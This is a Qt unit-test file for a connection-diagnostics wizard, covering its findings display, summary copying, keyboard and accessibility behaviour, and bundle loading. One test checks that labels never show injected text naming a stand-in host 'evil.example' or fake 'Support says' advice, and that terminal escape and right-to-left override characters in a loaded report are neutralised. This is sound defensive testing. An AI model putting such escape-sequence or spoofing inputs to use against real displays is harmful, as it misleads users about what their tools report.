    const Finding &made = report.findings.first();
    QStringList madeCommands;
    for (const Remedy &remedy : made.remediation)
        if (!remedy.command.isEmpty())
            madeCommands << remedy.command;
    QVERIFY(!madeCommands.isEmpty());
    QCOMPARE(visibleTexts(details, QStringLiteral("commandLabel")), madeCommands);
    QCOMPARE(visibleTexts(details, QStringLiteral("findingTitleLabel")), QStringList{made.title});
    // Nowhere in the wizard (every page, every label): no fake text, no control character
    for (const QLabel *label : viewer->findChildren<QLabel *>()) {
        QVERIFY2(!label->text().contains(QStringLiteral("evil.example")),
                 qPrintable(label->text()));
        QVERIFY2(!label->text().contains(QStringLiteral("Support says")),
                 qPrintable(label->text()));
        for (const QChar c : label->text())
            QVERIFY2(c.unicode() != 0x1b && c.unicode() != 0x9b && c.unicode() != 0x202e,
                     qPrintable(label->objectName()));
    }
    // The stage summary the check list and the pipeline strip show is made safe too
    QCOMPARE(viewer->controller()->report().stages.at(3).summary,
             QStringLiteral("x224 \uFFFD[2J\uFFFD31m\uFFFDexe"));
    // And the unknown code says so, with no command at all
    select(QStringLiteral("future.fix_everything"));
    const QStringList titles = visibleTexts(details, QStringLiteral("findingTitleLabel"));
    QCOMPARE(titles.size(), 1);
    QVERIFY2(titles.first().contains(QStringLiteral("Unknown finding")),
             qPrintable(titles.first()));
    QCOMPARE(visibleTexts(details, QStringLiteral("commandLabel")), QStringList());
    QVERIFY(details->findChildren<QPushButton *>(QStringLiteral("copyCommandButton")).isEmpty() ||
            !details->findChildren<QPushButton *>(QStringLiteral("copyCommandButton"))
                 .first()
                 ->isVisibleTo(details));
}

void TestDiagnosticWizard::copiedSummaryFollowsHideNames()
{
    // Given a saved (not redacted) run of pc.example.test
    const Report report = savedFixtureReport();
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("plain.zip"));
    QVERIFY(writeBundle(report, path, {}).ok);
    DiagnosticWizard *viewer = openAtSummary(path);
    QVERIFY(viewer);
    auto *hide = child<QCheckBox>(viewer, QStringLiteral("redactCheckBox"));
    auto *copy = child<QPushButton>(viewer, QStringLiteral("copySummaryButton"));
    const QString host = QStringLiteral("pc.example.test");

    // When "Hide names and addresses" is ticked (the default), the copied summary hides them
    QVERIFY(hide->isChecked());
    QTest::mouseClick(copy, Qt::LeftButton);
    QString copied = QGuiApplication::clipboard()->text();
    QVERIFY2(!copied.contains(host), qPrintable(copied));
    QVERIFY(copied.contains(report.reference));
    // and when it is not, it shows them
    hide->setChecked(false);
    QTest::mouseClick(copy, Qt::LeftButton);
    copied = QGuiApplication::clipboard()->text();
    QVERIFY2(copied.contains(host), qPrintable(copied));
}

void TestDiagnosticWizard::brokenBundleIsRefused()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("broken.zip"));
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("PK\x03\x04 this is not a zip archive");
    file.close();
    DiagnosticWizard *wizard = makeWizard();
    QVERIFY(!wizard->openBundle(path));
    QCOMPARE(wizard->currentId(), int(DiagnosticWizard::Page_Welcome));
    QVERIFY(!wizard->controller()->hasReport());
    auto *error = child<QLabel>(wizard, QStringLiteral("bundleErrorLabel"));
    QVERIFY(error->isVisible());
    QVERIFY(error->text().contains(QStringLiteral("broken.zip")));
}

void TestDiagnosticWizard::technicalDetailsAreRemembered()
{
    DiagnosticWizard *wizard = makeWizard();
    QVERIFY(!wizard->technicalDetails());
    wizard->controller()->showSaved(fixtureReport(), {});
    ResultsPage *security = wizard->resultsPage(DiagnosticWizard::Page_Security);
    QVERIFY(!security->details()->findChild<QLabel *>(QStringLiteral("findingCodeLabel")));
    // Bytes are left out for a non-expert, with a note saying where they are.
    QVERIFY(security->details()->findChild<QLabel *>(QStringLiteral("evidenceHiddenLabel")));
    QTest::mouseClick(wizard->technicalDetailsCheckBox(), Qt::LeftButton);
    QVERIFY(wizard->technicalDetails());
    QCOMPARE(QSettings().value(DiagnosticWizard::technicalDetailsKey()).toBool(), true);
    QTRY_VERIFY(security->details()->findChild<QLabel *>(QStringLiteral("findingCodeLabel")));
    // The raw evidence shows in full: the hex bytes of the fixture.
    bool hexShown = false;
    for (QLabel *label : security->details()->findChildren<QLabel *>())
        hexShown = hexShown || label->text() == QStringLiteral("03 00 00 13 02");
    QVERIFY(hexShown);

    m_wizard.reset();
    DiagnosticWizard *again = makeWizard();
    QVERIFY(again->technicalDetails());
    QVERIFY(again->technicalDetailsCheckBox()->isChecked());
}

void TestDiagnosticWizard::keyboardOnly()
{
    FaultServer server = FaultServer::always(FaultAction::reset());
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    DiagnosticWizard *wizard = makeWizard();
    wizard->activateWindow();
    QVERIFY(QTest::qWaitForWindowActive(wizard));
    auto *edit = child<QLineEdit>(wizard, QStringLiteral("targetLineEdit"));
    QTRY_COMPARE(QApplication::focusWidget(), edit);
    // Alt+E (the label's mnemonic) goes to the error code, Alt+C back to the computer.
    QTest::keyClick(wizard, Qt::Key_E, Qt::AltModifier);
    QTRY_VERIFY(child<QComboBox>(wizard, QStringLiteral("errorCodeComboBox"))
                    ->isAncestorOf(QApplication::focusWidget()) ||
                QApplication::focusWidget() ==
                    child<QComboBox>(wizard, QStringLiteral("errorCodeComboBox")));
    QTest::keyClick(wizard, Qt::Key_C, Qt::AltModifier);
    QTRY_COMPARE(QApplication::focusWidget(), edit);
    QTest::keyClicks(edit, QStringLiteral("127.0.0.1:%1").arg(server.port()));
    // Enter is Next.
    QTest::keyClick(edit, Qt::Key_Return);
    QTRY_COMPARE(wizard->currentId(), int(DiagnosticWizard::Page_Network));
    QTRY_VERIFY_WITH_TIMEOUT(!wizard->controller()->isRunning(), kRunTimeoutMs);
    // Tab reaches the checks and the Next button.
    QWidget *start = QApplication::focusWidget();
    QVERIFY(start);
    bool reachedNext = false;
    for (int i = 0; i < 40 && !reachedNext; ++i) {
        QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
        reachedNext = QApplication::focusWidget() == wizard->button(QWizard::NextButton);
    }
    QVERIFY(reachedNext);
    // Escape closes the wizard.
    QTest::keyClick(QApplication::focusWidget(), Qt::Key_Escape);
    QTRY_VERIFY(!wizard->isVisible());
}

void TestDiagnosticWizard::everyControlHasAnAccessibleName()
{
    DiagnosticWizard *wizard = makeWizard();
    wizard->controller()->showSaved(fixtureReport(), {});
    // The wizard's own buttons, without chevrons.
    QCOMPARE(accessibleName(wizard->button(QWizard::NextButton)), QStringLiteral("Next"));
    QCOMPARE(accessibleName(wizard->button(QWizard::BackButton)), QStringLiteral("Back"));
    QCOMPARE(accessibleName(wizard->button(QWizard::CancelButton)), QStringLiteral("Cancel"));
    QCOMPARE(accessibleName(wizard->button(QWizard::FinishButton)), QStringLiteral("Finish"));

    QStringList unnamed;
    int pages = 0;
    for (;; wizard->next()) { // every page the user can reach, in order
        const int id = wizard->currentId();
        ++pages;
        QTest::qWait(10);
        for (QWidget *widget : wizard->findChildren<QWidget *>()) {
            if (!widget->isVisible() || !(widget->focusPolicy() & Qt::TabFocus))
                continue;
            if (widget->focusProxy() || qobject_cast<QComboBox *>(widget->parentWidget()))
                continue; // the combo box carries the name
            if (accessibleName(widget).trimmed().isEmpty())
                unnamed << QStringLiteral("page %1: %2 (%3)")
                               .arg(id)
                               .arg(widget->objectName(),
                                    QString::fromLatin1(widget->metaObject()->className()));
        }
        if (wizard->nextId() == -1)
            break;
    }
    QVERIFY2(unnamed.isEmpty(), qPrintable(unnamed.join(QStringLiteral("; "))));
    QCOMPARE(pages, 6); // welcome, four result pages, summary (no server page for this run)
}

void TestDiagnosticWizard::pageChangeMovesFocusToThePage()
{
    DiagnosticWizard *wizard = makeWizard();
    wizard->activateWindow();
    QVERIFY(QTest::qWaitForWindowActive(wizard));
    wizard->controller()->showSaved(fixtureReport(), {});
    for (int id = DiagnosticWizard::Page_Network; id <= DiagnosticWizard::Page_Summary; ++id) {
        if (id == DiagnosticWizard::Page_Server)
            continue; // the fixture run did not check the server
        wizard->next();
        QCOMPARE(wizard->currentId(), id);
        QTRY_VERIFY2(wizard->currentPage()->isAncestorOf(QApplication::focusWidget()),
                     qPrintable(QStringLiteral("page %1 focus on %2")
                                    .arg(id)
                                    .arg(QApplication::focusWidget()
                                             ? QApplication::focusWidget()->objectName()
                                             : QStringLiteral("nothing"))));
    }
}

void TestDiagnosticWizard::typedCodesStayAsTyped()
{
    // "0x7" typed and left with Tab stays "0x7" (inline completion made it "0x708").
    DiagnosticWizard *wizard = makeWizard();
    wizard->activateWindow();
    QVERIFY(QTest::qWaitForWindowActive(wizard));
    for (const QString &name :
         {QStringLiteral("errorCodeComboBox"), QStringLiteral("extendedCodeComboBox")}) {
        auto *combo = child<QComboBox>(wizard, name);
        combo->setFocus();
        QTRY_VERIFY(combo->hasFocus() || combo->isAncestorOf(QApplication::focusWidget()));
        QTest::keyClicks(QApplication::focusWidget(), QStringLiteral("0x7"));
        QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
        QCOMPARE(combo->currentText(), QStringLiteral("0x7"));
    }
}

void TestDiagnosticWizard::enterAdvancesFromACodeField()
{
    FaultServer server = FaultServer::always(FaultAction::reset());
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    DiagnosticWizard *wizard = makeWizard();
    wizard->activateWindow();
    QVERIFY(QTest::qWaitForWindowActive(wizard));
    auto *edit = child<QLineEdit>(wizard, QStringLiteral("targetLineEdit"));
    QTest::keyClicks(edit, QStringLiteral("127.0.0.1:%1").arg(server.port()));
    auto *combo = child<QComboBox>(wizard, QStringLiteral("extendedCodeComboBox"));
    // Into the code field, out again and back with the keyboard, then the first Enter.
    combo->setFocus();
    QTest::keyClicks(QApplication::focusWidget(), QStringLiteral("0x7"));
    QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
    QTest::keyClick(QApplication::focusWidget(), Qt::Key_Backtab);
    QTRY_VERIFY(combo->hasFocus() || combo->isAncestorOf(QApplication::focusWidget()));
    QTest::keyClick(QApplication::focusWidget(), Qt::Key_Return);
    QTRY_COMPARE(wizard->currentId(), int(DiagnosticWizard::Page_Network));
    QCOMPARE(combo->currentText(), QStringLiteral("0x7"));
    QTRY_VERIFY_WITH_TIMEOUT(!wizard->controller()->isRunning(), kRunTimeoutMs);
}

void TestDiagnosticWizard::codeListShowsMeanings()
{
    DiagnosticWizard *wizard = makeWizard();
    auto *extended = child<QComboBox>(wizard, QStringLiteral("extendedCodeComboBox"));
    int row = -1;
    for (int i = 0; i < extended->count(); ++i)
        if (extended->itemText(i).startsWith(QStringLiteral("0x7 ")))
            row = i;
    QVERIFY(row > 0);
    // The list names each code's meaning; choosing it puts only the code into the field.
    QVERIFY2(extended->itemText(row).contains(clientCodeMeaning(0x7, CodeKind::Extended)),
             qPrintable(extended->itemText(row)));
    extended->setCurrentIndex(row);
    emit extended->activated(row);
    QCOMPARE(extended->currentText(), QStringLiteral("0x7"));
    auto *code = child<QComboBox>(wizard, QStringLiteral("errorCodeComboBox"));
    QVERIFY(code->itemText(1).contains(clientCodeMeaning(0x904, CodeKind::Disconnect)));
}

void TestDiagnosticWizard::summaryStartsWithTheHeadline()
{
    // Given the 0x904 / 0x7 story
    FaultServer server = FaultServer::always(FaultAction::reset());
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    DiagnosticWizard *wizard = makeWizard();
    runAgainst(QStringLiteral("127.0.0.1:%1").arg(server.port()), QStringLiteral("0x904"),
               QStringLiteral("0x7"));
    while (wizard->currentId() != DiagnosticWizard::Page_Summary)
        wizard->next();
    const Report &report = wizard->controller()->report();
    SummaryPage *summary = wizard->summaryPage();
    // Then the Summary answers in one sentence and says who acts: the remote computer's
    // administrator, given the reference
    const Finding *primary = nullptr;
    for (const Finding &finding : report.findings)
        if (finding.code == report.diagnosis.primary)
            primary = &finding;
    QVERIFY(primary);
    QCOMPARE(summary->headlineText(), primary->title + QLatin1Char('.'));
    QVERIFY(child<QLabel>(summary, QStringLiteral("whoActsLabel"))
                ->text()
                .contains(QStringLiteral("remote computer")));
    QVERIFY(child<QLabel>(summary, QStringLiteral("userStepsLabel"))
                ->text()
                .contains(report.reference));
    // The actions come right under the headline, before the longer why
    auto *copyReference = child<QPushButton>(summary, QStringLiteral("copyReferenceButton"));
    const auto top = [summary](QWidget *w) {
        return w->mapTo(summary, QPoint(0, 0)).y();
    };
    QVERIFY(top(child<QWidget>(summary, QStringLiteral("headlineFrame"))) < top(copyReference));
    QVERIFY(top(copyReference) < top(child<QLabel>(summary, QStringLiteral("whyLabel"))));
    QTest::mouseClick(copyReference, Qt::LeftButton);
    QCOMPARE(QGuiApplication::clipboard()->text(), report.reference);
    // and the ticket starts with the same answer
    const QStringList ticket = summary->ticketSummary().split(QLatin1Char('\n'));
    QVERIFY2(ticket.at(1).startsWith(QStringLiteral("Answer:    The server")),
             qPrintable(ticket.join(QLatin1Char('\n'))));
}

void TestDiagnosticWizard::finishWaitsForTheRun()
{
    FaultServer server = FaultServer::always(FaultAction::silent());
    server.setRequestTimeout(120000);
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    DiagnosticWizard *wizard = makeWizard();
    child<QSpinBox>(wizard, QStringLiteral("timeoutSpinBox"))->setValue(60);
    QTest::keyClicks(child<QLineEdit>(wizard, QStringLiteral("targetLineEdit")),
                     QStringLiteral("127.0.0.1:%1").arg(server.port()));
    wizard->next();
    while (wizard->currentId() != DiagnosticWizard::Page_Summary)
        wizard->next();
    QVERIFY(wizard->controller()->isRunning());
    QVERIFY(!wizard->button(QWizard::FinishButton)->isEnabled());
    QVERIFY(wizard->button(QWizard::CancelButton)->isEnabled());
    wizard->controller()->cancel();
    QTRY_VERIFY(wizard->button(QWizard::FinishButton)->isEnabled());
}

void TestDiagnosticWizard::exportStartsInDocuments()
{
    const QString documents = QStandardPaths::writableLocation(QStandardPaths::DocumentsLocation);
    QVERIFY(QDir().mkpath(documents));
    QCOMPARE(defaultExportFolder(), documents);
    QVERIFY(defaultExportFolder() != QDir::currentPath());
}

void TestDiagnosticWizard::evidenceOnlyUnderTechnicalDetails()
{
    Report report = fixtureReport();
    report.findings.first().evidence.insert(QStringLiteral("duration_ms"), 12);
    report.findings.first().evidence.insert(QStringLiteral("outcome"), QJsonValue());
    DiagnosticWizard *wizard = makeWizard();
    wizard->controller()->showSaved(report, {});
    FindingView *details = wizard->resultsPage(DiagnosticWizard::Page_Security)->details();
    const auto texts = [details] {
        QStringList list;
        for (const QLabel *label : details->findChildren<QLabel *>())
            list << label->text();
        return list;
    };
    // Without technical details: no evidence at all, only where to find it
    QVERIFY(!texts().contains(QStringLiteral("duration_ms")));
    QVERIFY(!texts().contains(QStringLiteral("12")));
    QVERIFY(details->findChild<QLabel *>(QStringLiteral("evidenceHiddenLabel")));
    QVERIFY(details->findChild<QLabel *>(QStringLiteral("adminStepsLabel")));
    // With them: translated labels, no raw keys, no empty or null rows
    wizard->setTechnicalDetails(true);
    QTRY_VERIFY(texts().contains(QStringLiteral("Time taken (ms)")));
    QVERIFY(texts().contains(QStringLiteral("Bytes sent (hex)")));
    QVERIFY(!texts().contains(QStringLiteral("duration_ms")));
    QVERIFY(!texts().contains(QStringLiteral("What happened"))); // outcome was null
    QVERIFY(!texts().contains(QStringLiteral("null")));
}

QTEST_MAIN(TestDiagnosticWizard)
#include "TestDiagnosticWizard.moc"
